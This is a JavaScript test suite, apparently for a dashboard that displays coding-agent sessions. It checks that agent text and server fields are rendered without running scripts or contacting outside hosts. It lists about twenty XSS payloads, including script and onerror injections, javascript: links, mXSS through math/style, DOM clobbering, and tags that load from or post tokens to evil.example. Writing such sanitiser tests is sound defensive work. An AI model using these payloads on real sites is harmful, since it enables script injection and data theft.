import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { openStage, row } from "./stage.mjs";

let stage;
before(async () => {
  stage = await openStage();
});
after(() => stage.close());

const ATTACKS = {
  "a script element": '<script>window.hit = "script"</script>after',
  "an event handler": '<img src="x" onerror="window.hit = 1">after',
  "a handler on an allowed element": '<details open ontoggle="window.hit = 1"><summary>s</summary></details>after',
  "a javascript: link": "[after](javascript:window.hit=1)",
  "a javascript: link with a break in it": '<a href="java&#10;script:window.hit=1">after</a>',
  "a data: link": "[after](data:text/html,<script>window.hit=1</script>)",
  "a vbscript: link": "[after](vbscript:msgbox)",
  "an image of another host": "![after](https://evil.example/pixel.png)",
  "a raw image of another host":
    'after <img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x">',
  "a background image": '<div style="background:url(https://evil.example/b.png)">after</div>',
  "a style element": "<style>* { display: none }</style>after",
  "a frame": '<iframe src="https://evil.example" srcdoc="<script>parent.hit=1</script>"></iframe>after',
  "an object": '<object data="https://evil.example/o.swf"></object>after',
  "a form": '<form action="https://evil.example"><input name="token"><button>after</button></form>after',
  "a base address": '<base href="https://evil.example/">after',
  "a video": '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>after',
  "svg with a script": "<svg><script>window.hit=1</script><a href='javascript:window.hit=1'>after</a></svg>after",
  "a mutation through math":
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>after",
  "a template": "<template shadowrootmode=open><script>window.hit=1</script></template>after",
  "clobbered names": '<a id="source" name="source">after</a><form id="document"></form>',
};

for (const [name, text] of Object.entries(ATTACKS)) {
  test(`${name} in an agent's text does nothing`, async () => {
    const page = await stage.page("week");
    await row(page, "Fix the CSV parser that drops").click();
    const region = page.getByRole("region", { name: "Session" });
    await region.getByRole("log", { name: "Activity" }).waitFor();
    await page.waitForFunction(() => window.source.followers("local/run") === 1);
    await page.evaluate((hostile) => {
      const part = { kind: "text", id: "hostile", text: hostile };
      window.source.emit("local/run", { kind: "part", turn: "t1", part });
      // The end of the same message: once it is drawn, so is what stands before it.
      const done = { kind: "text", id: "done", text: "that was all" };
      window.source.emit("local/run", { kind: "part", turn: "t1", part: done });
    }, text);
    await region.locator("ca-markdown .rendered", { hasText: "that was all" }).waitFor();
    const rendered = region.locator("ca-markdown").nth(-2).locator(".rendered");
    await rendered.waitFor({ state: "attached" });
    for (const link of await rendered.locator("a").all()) await link.click({ noWaitAfter: true, modifiers: ["Alt"] });
    const found = await rendered.evaluate((root) => ({
      forbidden: root.querySelectorAll("script,style,img,iframe,object,form,base,video,svg,math,template,link,meta")
        .length,
      handlers: [...root.querySelectorAll("*")].flatMap((element) =>
        [...element.attributes].filter(({ name }) => /^on|^style$|^id$|^name$|^src|^class$/.test(name)),
      ).length,
      links: [...root.querySelectorAll("a[href]")].map((link) => [link.protocol, link.target, link.rel]),
      hit: window.hit,
    }));
    assert.equal(found.hit, undefined, "nothing ran");
    assert.equal(found.forbidden, 0, "no forbidden element");
    assert.equal(found.handlers, 0, "no forbidden attribute");
    for (const [protocol, target, rel] of found.links) {
      assert.ok(["https:", "http:", "mailto:"].includes(protocol), `${protocol} is no safe scheme`);
      assert.equal(target, "_blank");
      assert.match(rel, /noopener/);
    }
    assert.deepEqual(page.strangers, [], "no other host was asked");
    await page.context().close();
  });
}

test("titles, paths and addresses from a server are text, and only web links are links", async () => {
  const page = await stage.page("week");
  await page.evaluate(() => {
    const { session } = window.make;
    const markup = "<img src=x onerror=window.hit=1>";
    window.source.put(
      session({
        id: "local/evil",
        title: markup,
        updatedAt: new Date().toISOString(),
        url: "javascript:window.hit=1",
        repository: markup,
        agent: markup,
        artifacts: [
          { kind: "pull-request", id: "1", number: 1, title: markup, url: "javascript:window.hit=1", state: "open" },
          { kind: "branch", headRef: markup, baseRef: "main" },
        ],
        error: { message: markup, hint: markup },
        turns: [{ id: "t", request: { text: markup }, parts: [], state: "completed" }],
      }),
    );
    const diff = `@@ -0,0 +1 @@\n+${markup}`;
    window.source.files.set("local/evil", [{ path: markup, status: "added", additions: 1, deletions: 0, diff }]);
  });
  await row(page, "<img").click();
  const region = page.getByRole("region", { name: "Session" });
  await region.getByRole("region", { name: "Changes" }).locator("td.code").first().waitFor();
  assert.equal(await region.locator("img").count(), 0);
  assert.equal(await region.locator("header a").count(), 0);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  assert.deepEqual(page.strangers, []);
  assert.deepEqual(page.complaints, []);
});

test("values that a newer server invents are shown, not fatal", async () => {
  const page = await stage.page("week");
  await page.evaluate(() => {
    const { session } = window.make;
    window.source.put(
      session({
        id: "local/new",
        title: "From the future",
        status: "daydreaming",
        updatedAt: new Date().toISOString(),
        artifacts: [{ kind: "hologram", raw: {} }],
        turns: [
          {
            id: "t",
            request: { text: "Do it" },
            state: "musing",
            parts: [
              { kind: "hologram", id: "1", raw: { a: 1 } },
              { kind: "tool", id: "2", name: "bash", status: "pondering" },
            ],
          },
        ],
      }),
    );
  });
  await row(page, "From the future, unknown").click();
  await page.getByRole("heading", { level: 3, name: "Do it" }).waitFor();
  await page.getByText("Something this page does not know yet").first().waitFor();
  assert.deepEqual(page.complaints, []);
});
